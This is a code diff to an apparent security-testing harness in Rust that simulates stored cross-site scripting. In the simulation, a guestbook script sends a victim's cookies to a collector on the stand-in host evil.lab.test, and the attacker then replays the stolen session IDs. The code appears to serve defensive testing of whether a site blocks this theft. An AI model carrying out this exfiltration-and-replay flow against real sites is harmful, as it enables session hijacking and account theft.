@@ -24,11 +24,11 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     let collector = evil.url(&format!("/collect/{token}?c="));
     let payload = EXFILTRATE_COOKIES_TEMPLATE.replace("{collector}", collector.as_str());
 
-    let mut attacker = ctx.browser("attacker");
+    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
     evil.join(&mut attacker.network);
     attacker_signs_guestbook(ctx, &mut attacker, &payload, "with a <script> payload").await?;
 
-    let mut victim = ctx.browser("victim");
+    let mut victim = ctx.browser(Actor::Victim, "victim");
     evil.join(&mut victim.network);
     log_in(ctx, &mut victim, &ctx.victim).await?;
     let note = read_own_note(ctx, &mut victim).await?;
@@ -43,7 +43,7 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         })
         .collect();
     let browser_did = describe_effects(&effects, &page.body);
-    ctx.step(
+    let viewed = ctx.step(
         Actor::Victim,
         format!("{} logged in and viewed the guestbook", ctx.victim.username),
         &browser_did,
@@ -52,7 +52,7 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         .iter()
         .all(|e| !matches!(e, ScriptEffect::Exfiltrated { .. }))
     {
-        return Ok(Verdict::blocked(browser_did));
+        return Ok(Verdict::blocked(browser_did, viewed));
     }
 
     // The attacker's own browser ran the payload too when it showed the guestbook:
@@ -79,7 +79,7 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         .iter()
         .map(|r| format!("{:?}", short(&r.data)))
         .collect();
-    ctx.step(
+    let collected = ctx.step(
         Actor::Attacker,
         "read the collector on evil.lab.test",
         format!(
@@ -93,14 +93,15 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
             "the script ran, but the collector received no session cookie of the victim: `{}` is HttpOnly, invisible to document.cookie",
             ctx.target.session_cookie
         );
-        return Ok(Verdict::blocked(evidence));
+        return Ok(Verdict::blocked(evidence, collected));
     }
 
     // Several reports may have arrived (the victim's browser may hold several
     // cookies of that name); the attacker tries each until one opens the account.
     let mut probe = None;
     for stolen_id in &stolen {
-        let attempt = replay_session_id(ctx, stolen_id, ctx.app_url("/account")).await?;
+        let account = ctx.app_url("/account");
+        let attempt = replay_session_id(ctx, stolen_id, account).await?;
         let shows = attempt.shows(&note);
         probe = Some(attempt);
         if shows {
